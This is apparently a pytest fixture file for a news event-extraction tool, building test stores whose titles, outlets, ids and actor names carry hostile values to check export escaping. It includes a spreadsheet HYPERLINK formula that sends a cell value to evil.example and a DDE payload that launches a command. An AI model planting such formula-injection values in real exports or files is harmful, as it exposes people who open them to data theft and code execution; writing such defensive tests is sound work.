"""Stores the export tests read: the bundled examples ingested once (the real coder, through the CLI), and a
small hand-made store with hostile text, whose every value the tests know."""

from __future__ import annotations

import datetime as dt
import hashlib
from pathlib import Path

import pytest

from detente.records import Actor, Document, Location, Mention
from detente.store.db import Store
from tests.cli.conftest import ingest_examples

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
HOSTILE_OUTLET = "@Evil\tOutlet"
HOSTILE_SENTENCE = "Wang Yi met\tAntony Blinken in Beijing\non Monday, said +1 source."
HOSTILE_TEXT = "First line.\n\n" + HOSTILE_SENTENCE + "\nMore text."


@pytest.fixture(scope="session")
def seeds_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``detente ingest examples/`` into a fresh store, once; read it only."""
    return ingest_examples(tmp_path_factory, "exports")[0]


def hostile_document() -> Document:
    return Document(id=hashlib.sha256(HOSTILE_TEXT.encode()).hexdigest(), text=HOSTILE_TEXT, source_id="-evil-id",
                    published=dt.date(2023, 6, 19), title=HOSTILE_TITLE, outlet=HOSTILE_OUTLET,
                    url="https://www.example.com/news/1", genre="news")


def citation_document() -> Document:
    """A document without a URL: GDELT cites it by outlet, title, date and id, all hostile here."""
    text = "Plain text of a second article.\nPentagon rejected the UN claim."
    return Document(id=hashlib.sha256(text.encode()).hexdigest(), text=text, source_id="+id\tsecond",
                    published=dt.date(2023, 6, 20), title="Line one\nline\ttwo", outlet="=Outlet",
                    genre="news")


def hostile_mentions(doc: Document, other: Document) -> list[Mention]:
    wang = Actor("Wang Yi", "Wang Yi", "CHN", "GOV", "person/chn/wang-yi")
    blinken = Actor("Antony\tBlinken", "=cmd|' /C calc'!A0", "USA", "GOV", "person/usa/antony-blinken")
    return [
        Mention(mention_id="m-located", doc_id=doc.id, sentence=HOSTILE_SENTENCE, sentence_index=1, type="CONSULT",
                mode="visit", cameo="042", goldstein=1.9, quad_class=1, modality="asserted", channel="diplomatic",
                source=[blinken], target=[wang], trigger="met", date=dt.date(2023, 6, 19), date_precision="day",
                location=Location("Beijing", "Beijing", "CHN", 39.9075, 116.39723, "city"), confidence=0.9),
        Mention(mention_id="m-unlocated", doc_id=other.id, sentence="Pentagon rejected the UN claim.",
                sentence_index=1, type="ACCUSE",
                mode=None, cameo="112", goldstein=-2.0, quad_class=3, modality="asserted", channel="military",
                source=[Actor("UN", "United Nations", "IGO", None, "body/igo/united-nations")],
                target=[Actor("Pentagon", "Pentagon", "USA", "MIL", None)], trigger="rejected",
                date=dt.date(2023, 6, 20), date_precision="day",
                location=Location("sea", "somewhere", None, None, None, "place"), confidence=0.5),
    ]


@pytest.fixture()
def hostile_store(tmp_path: Path) -> Path:
    """Two events from two documents whose titles, outlets, ids, sentences and actor names are hostile."""
    db = tmp_path / "hostile.duckdb"
    doc, other = hostile_document(), citation_document()
    mentions = hostile_mentions(doc, other)
    with Store(db) as store:
        store.add_batch([(doc, mentions[:1]), (other, mentions[1:])], run_id=1)
    return db
